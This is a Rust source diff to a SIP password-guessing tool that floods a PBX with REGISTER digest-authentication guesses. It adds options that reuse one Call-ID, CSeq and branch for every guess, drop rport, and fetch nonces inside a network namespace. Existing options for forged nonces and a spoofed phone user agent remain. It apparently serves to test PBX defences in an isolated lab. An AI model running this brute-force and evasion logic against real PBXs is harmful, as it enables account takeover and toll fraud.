@@ -16,8 +16,10 @@ use serde::Serialize;
 
 use crate::{namespace::Namespace, sip};
 
+mod many_cpus;
 mod socket;
 
+pub use many_cpus::attack_on_cpus;
 use socket::Socket;
 
 const CHALLENGE_WAIT: Duration = Duration::from_millis(700);
@@ -53,6 +55,10 @@ pub struct Plan {
     pub guesses: u32,
     /// Guess on a nonce that the PBX never gave out, without asking for one.
     pub forge_nonce: bool,
+    /// All guesses with the same Call-ID, CSeq and branch, as if they were one request repeated.
+    pub one_transaction: bool,
+    /// Without rport, and with the next of the source ports in Via: answers go there.
+    pub no_rport: bool,
     /// TCP only: bytes in each segment, whatever they split. Otherwise each segment begins with a
     /// message and holds whole ones.
     pub segment_bytes: Option<usize>,
@@ -76,6 +82,8 @@ impl Plan {
             user_agent: "Grandstream GXP1625 1.0.7.6".to_owned(),
             guesses: 5000,
             forge_nonce: false,
+            one_transaction: false,
+            no_rport: false,
             segment_bytes: None,
             per_second: None,
             patience: Duration::from_millis(700),
@@ -135,32 +143,64 @@ pub fn attack(plan: &Plan) -> Result<Report> {
         report.challenged = true;
         challenge
     };
-    let guesses: Vec<Vec<u8>> =
-        (0..plan.guesses).map(|n| request(plan, socket.local(n), Some((&challenge, n)))).collect();
+    guess(plan, &challenge, 0, socket, deadline, &mut report)?;
+    report.elapsed_ms = millis(start.elapsed());
+    Ok(report)
+}
+
+/// Sends all guesses, the first being number `from`, and listens to what becomes of them.
+fn guess(
+    plan: &Plan,
+    challenge: &Challenge,
+    from: u32,
+    mut socket: Socket,
+    deadline: Instant,
+    report: &mut Report,
+) -> Result<()> {
+    let guesses: Vec<Vec<u8>> = (0..plan.guesses)
+        .map(|n| request(plan, via(plan, &socket, n), Some((challenge, from + n))))
+        .collect();
     let burst = Instant::now();
     report.sent = socket.send_all(plan, &guesses, deadline)?;
     socket.listen(plan.patience, deadline)?;
     report.answers = socket.answers;
     report.last_answer_ms =
         socket.last_answer.map(|at| millis(at.saturating_duration_since(burst)));
-    report.elapsed_ms = millis(start.elapsed());
-    Ok(report)
+    Ok(())
+}
+
+/// Where the nth message asks to be answered.
+fn via(plan: &Plan, socket: &Socket, n: u32) -> SocketAddr {
+    socket.local(n + u32::from(plan.no_rport))
 }
 
 fn millis(duration: Duration) -> u64 {
     u64::try_from(duration.as_millis()).unwrap_or(u64::MAX)
 }
 
-struct Challenge {
+/// What a PBX asks for.
+#[derive(Clone, Debug)]
+pub struct Challenge {
     realm: String,
     nonce: String,
 }
 
 impl Challenge {
-    fn forged(plan: &Plan) -> Self {
+    pub(super) fn forged(plan: &Plan) -> Self {
         let nonce = hex(&Md5::digest(format!("made up for {}", plan.source)));
         Self { realm: host(plan), nonce }
     }
+}
+
+/// Takes a nonce from inside `namespace`, for whatever use; `None` if there is no answer.
+pub fn take_challenge(namespace: &Namespace, plan: &Plan) -> Result<Option<Challenge>> {
+    namespace.run(|| {
+        let deadline = Instant::now() + plan.limit;
+        match Socket::open(plan, deadline)? {
+            Some(mut socket) => fetch_challenge(plan, &mut socket, deadline),
+            None => Ok(None),
+        }
+    })
 }
 
 /// One REGISTER without credentials, repeated if need be, and what its 401 says.
@@ -169,7 +209,7 @@ fn fetch_challenge(
     socket: &mut Socket,
     deadline: Instant,
 ) -> Result<Option<Challenge>> {
-    let first = request(plan, socket.local(0), None);
+    let first = request(plan, via(plan, socket, 0), None);
     for _ in 0..CHALLENGE_TRIES {
         if socket.send_all(plan, std::slice::from_ref(&first), deadline)? == 0 {
             break;
@@ -191,17 +231,20 @@ fn fetch_challenge(
 }
 
 /// A REGISTER; with a challenge, the nth guess on it.
-fn request(plan: &Plan, local: SocketAddr, guess: Option<(&Challenge, u32)>) -> Vec<u8> {
+pub(super) fn request(plan: &Plan, local: SocketAddr, guess: Option<(&Challenge, u32)>) -> Vec<u8> {
     let (user, host, agent) = (&plan.user, host(plan), &plan.user_agent);
     let transport = plan.transport.name();
     let (cseq, credentials) = match guess {
         None => (1, String::new()),
+        Some((challenge, n)) if plan.one_transaction => (2, credentials(plan, challenge, n)),
         Some((challenge, n)) => (n + 2, credentials(plan, challenge, n)),
     };
-    let call_id = hex(&Md5::digest(format!("{local} {user}")));
+    let rport = if plan.no_rport { "" } else { ";rport" };
+    let of = if plan.one_transaction { plan.source.to_string() } else { local.to_string() };
+    let call_id = hex(&Md5::digest(format!("{of} {user}")));
     format!(
         "REGISTER sip:{host} SIP/2.0\r\n\
-         Via: SIP/2.0/{transport} {local};branch=z9hG4bK{cseq}x{};rport\r\n\
+         Via: SIP/2.0/{transport} {local};branch=z9hG4bK{cseq}x{}{rport}\r\n\
          Max-Forwards: 70\r\n\
          From: <sip:{user}@{host}>;tag={}\r\n\
          To: <sip:{user}@{host}>\r\n\
